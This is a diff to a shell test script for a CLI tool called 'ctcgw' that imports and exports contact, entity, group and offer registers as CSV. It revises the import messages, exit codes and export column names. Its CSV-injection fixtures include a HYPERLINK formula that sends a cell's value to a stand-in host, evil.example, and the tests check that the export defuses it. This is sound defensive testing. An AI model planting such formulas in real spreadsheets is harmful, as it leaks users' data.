@@ -109,7 +109,8 @@ check "show with no reference exits 64" 64 ctcgw show
 
 # --- export -----------------------------------------------------------------
 check "export offers -o FILE" 0 ctcgw export offers -o "$TMP/offers.csv"
-check_true "the CSV file has a header row" grep -q '^id,reference,' "$TMP/offers.csv"
+check_true "the CSV file has a header row of the form's keys" \
+    grep -q '^Reference,Provider,Title,Areas,' "$TMP/offers.csv"
 check_true "no temporary file is left" sh -c "! ls '$TMP' | grep -q 'offers\\.csv\\.'"
 check "export entities --format json" 0 ctcgw export entities --format json
 check_true "the JSON export is JSON" is_json "$OUT"
@@ -138,7 +139,7 @@ KZ,Aigerim Testova,a.testova@mfa.example.kz,Counsellor,Ministry of Foreign Affai
 UNODC,Jean Exemple,jean.exemple@unodc.example.org,Programme Officer,Terrorism Prevention Branch,+43 1 26060,fr,alternate,criminal-justice
 EOF
 check "import contacts" 0 ctcgw import contacts "$TMP/contacts.csv"
-check_out "it says how many it imported" 'imported 2 records'
+check_out "it says how many it imported" '^imported 2 of 2 rows$'
 check "list contacts" 0 ctcgw list contacts
 check_out "the imported contacts are listed" 'a\.testova@mfa\.example\.kz'
 check_out "both of them" 'jean\.exemple@unodc\.example\.org'
@@ -162,14 +163,14 @@ Entity,Name,Emial
 KZ,Nobody,nobody@example.kz
 EOF
 check "an import with only bad rows exits 65" 65 ctcgw import contacts "$TMP/bad.csv"
-check_err "it names the problem" 'Emial'
-check_out "it says nothing was imported" 'imported 0 records'
+check_out "it names the problem on stdout" 'bad\.csv row 2: .*Emial'
+check_out "it says nothing was imported" '^imported 0 of 1 row; 1 refused$'
 cat >"$TMP/offers-for-contacts.csv" <<'EOF'
 Form,Provider,Title,Areas
 assistance-offer,UNODC,Workshop,other
 EOF
 check "an import of another form's rows exits 65" 65 ctcgw import contacts "$TMP/offers-for-contacts.csv"
-check_err "it names the file, the row, the field and the form" \
+check_out "it names the file, the row, the field and the form" \
     'offers-for-contacts\.csv row 2: field "Form": assistance-offer records cannot be imported into contacts'
 check "import into an unknown register exits 64" 64 ctcgw import contcts "$TMP/contacts.csv"
 check "import of a missing file fails" 66 ctcgw import contacts "$TMP/absent.csv"
@@ -182,12 +183,13 @@ KZ,Formula One,formula.one@mfa.example.kz,"=HYPERLINK(""http://evil.example/?x="
 KZ,-Formula Two,formula.two@mfa.example.kz,'quoted',''=1+1,
 EOF
 check "import values that look like formulas" 0 ctcgw import contacts "$TMP/formulas.csv"
-check_out "both of them" 'imported 2 records'
+check_out "both of them" '^imported 2 of 2 rows$'
 
 cat >"$TMP/cells.py" <<'EOF'
 import csv, sqlite3, sys
 
 COLUMNS = ['entity', 'name', 'email', 'title', 'office', 'phone']
+KEYS = ['Entity', 'Name', 'Email', 'Title', 'Office', 'Phone']
 
 def register(db):
     """The columns of the contacts that a CSV import writes, by email."""
@@ -212,14 +214,14 @@ if what == 'no-formula':
     print(bad)
     sys.exit(1 if bad else 0)
 if what == 'cell':
-    row = [r for r in cells(sys.argv[2]) if r['email'] == sys.argv[3]][0]
+    row = [r for r in cells(sys.argv[2]) if r['Email'] == sys.argv[3]][0]
     sys.exit(0 if row[sys.argv[4]] == sys.argv[5] else 1)
 if what == 'columns':
     with open(sys.argv[3], 'w', newline='', encoding='utf-8') as f:
         out = csv.writer(f)
-        out.writerow(COLUMNS)
+        out.writerow(KEYS)
         for row in cells(sys.argv[2]):
-            out.writerow([row[c] for c in COLUMNS])
+            out.writerow([row[c] for c in KEYS])
 if what == 'same':
     a, b = register(sys.argv[2]), register(sys.argv[3])
     print(a, b, sep='\n')
@@ -235,13 +237,13 @@ check_true "and the values that begin with an apostrophe" cells value "$TMP/db.s
 check "export contacts with formulas" 0 ctcgw export contacts -o "$TMP/formulas-out.csv"
 check_true "no cell of the export begins with a formula" cells no-formula "$TMP/formulas-out.csv"
 check_true "the formula is written after an apostrophe" cells cell "$TMP/formulas-out.csv" \
-    formula.one@mfa.example.kz title "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
+    formula.one@mfa.example.kz Title "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
 check_true "so is a telephone number" cells cell "$TMP/formulas-out.csv" \
-    formula.one@mfa.example.kz phone "'+7 727 123 4567"
+    formula.one@mfa.example.kz Phone "'+7 727 123 4567"
 check_true "a value that begins with an apostrophe is written as it is" cells cell \
-    "$TMP/formulas-out.csv" formula.two@mfa.example.kz title "'quoted'"
+    "$TMP/formulas-out.csv" formula.two@mfa.example.kz Title "'quoted'"
 check_true "unless a formula follows its apostrophe" cells cell \
-    "$TMP/formulas-out.csv" formula.two@mfa.example.kz office "''=1+1"
+    "$TMP/formulas-out.csv" formula.two@mfa.example.kz Office "''=1+1"
 check_true "the export's form columns are taken for an import" \
     cells columns "$TMP/formulas-out.csv" "$TMP/round-trip.csv"
 sed "s|$TMP/db.sqlite|$TMP/round-trip.sqlite|" "$CONF" >"$TMP/round-trip.conf"
@@ -257,9 +259,9 @@ if command -v sqlite3 >/dev/null; then
     check "export contacts with a tab and a CR" 0 ctcgw export contacts -o "$TMP/formulas-out.csv"
     check_true "no cell begins with a tab or a CR" cells no-formula "$TMP/formulas-out.csv"
     check_true "the tab follows the apostrophe" cells cell "$TMP/formulas-out.csv" \
-        formula.two@mfa.example.kz title "$(printf "'\t=1+1")"
+        formula.two@mfa.example.kz Title "$(printf "'\t=1+1")"
     check_true "so does the CR" cells cell "$TMP/formulas-out.csv" \
-        formula.two@mfa.example.kz office "$(printf "'\r@x")"
+        formula.two@mfa.example.kz Office "$(printf "'\r@x")"
 fi
 
 # --- import entities and groups: what staff add to the reference data --------
@@ -270,10 +272,10 @@ UNOCT,United Nations Office of Counter-Terrorism,organization,no
 KZ,Kazakhstan,organization,
 x y,Bad code,,
 EOF
-check "import entities" 0 ctcgw import entities "$TMP/entities.csv"
-check_out "it files the good rows" 'imported 2 records'
-check_err "a State stays a State" 'entities\.csv row 4: field "Kind": KZ is a state in the entities register'
-check_err "a bad code names its row and field" 'entities\.csv row 5: field "Code": "x y" is not a code'
+check "import entities with two bad rows exits 65" 65 ctcgw import entities "$TMP/entities.csv"
+check_out "it files the good rows" '^imported 2 of 4 rows; 2 refused$'
+check_out "a State stays a State" 'entities\.csv row 4: field "Kind": KZ is a state in the entities register'
+check_out "a bad code names its row and field" 'entities\.csv row 5: field "Code": "x y" is not a code'
 check "list entities after import" 0 ctcgw list entities
 check_out "the new organization is listed, in capitals" '^GCTF +organization +Global Counterterrorism Forum'
 check_true "a row with Active no deactivates the entity" \
@@ -281,8 +283,8 @@ check_true "a row with Active no deactivates the entity" \
 # Require: the entity's own authentication policy (ctcgw(8), AUTHENTICATION).
 printf 'Code,Name,Require\nGCTF,Global Counterterrorism Forum,authenticated\nUNOCT,UNOCT,sometimes\n' \
     >"$TMP/policy.csv"
-check "import entities with Require" 0 ctcgw import entities "$TMP/policy.csv"
-check_err "a policy that is none of them names its row" \
+check "import entities with Require" 65 ctcgw import entities "$TMP/policy.csv"
+check_out "a policy that is none of them names its row" \
     'policy\.csv row 3: field "Require": "sometimes" is not one of authenticated, confirm, none, default'
 check_true "the entity's policy is kept" \
     test "$(sqlite3 "$TMP/db.sqlite" "SELECT require FROM entities WHERE code = 'GCTF'")" = authenticated
@@ -299,9 +301,9 @@ Group,Members,Description
 Central Asia,"KZ, Kyrgyzstan, TJ, TM, UZ",The five States of Central Asia
 Donors,"KZ, UNODC",
 EOF
-check "import groups" 0 ctcgw import groups "$TMP/groups.csv"
-check_out "it files the group of States" 'imported 1 record$'
-check_err "a member that is not a State is refused" 'groups\.csv row 3: field "Members": UNODC is not a State'
+check "import groups with a bad row exits 65" 65 ctcgw import groups "$TMP/groups.csv"
+check_out "it files the group of States" '^imported 1 of 2 rows; 1 refused$'
+check_out "a member that is not a State is refused" 'groups\.csv row 3: field "Members": UNODC is not a State'
 check "list groups" 0 ctcgw list groups
 check_out "the group is listed with its members" '^Central Asia +KG KZ TJ TM UZ'
 cat >"$TMP/offers.csv" <<'EOF'
@@ -309,7 +311,7 @@ Provider,Title,Areas,Beneficiaries
 GCTF,Regional workshop,border-control,Central Asia
 EOF
 check "an offer of the new organization to the group" 0 ctcgw import offers "$TMP/offers.csv"
-check_out "is filed" 'imported 1 record$'
+check_out "is filed" '^imported 1 of 1 row$'
 printf 'Group,Members\nCentral Asia,"KZ; KG"\n' >"$TMP/groups2.csv"
 check "import a known group again" 0 ctcgw import groups "$TMP/groups2.csv"
 check "list groups again" 0 ctcgw list groups
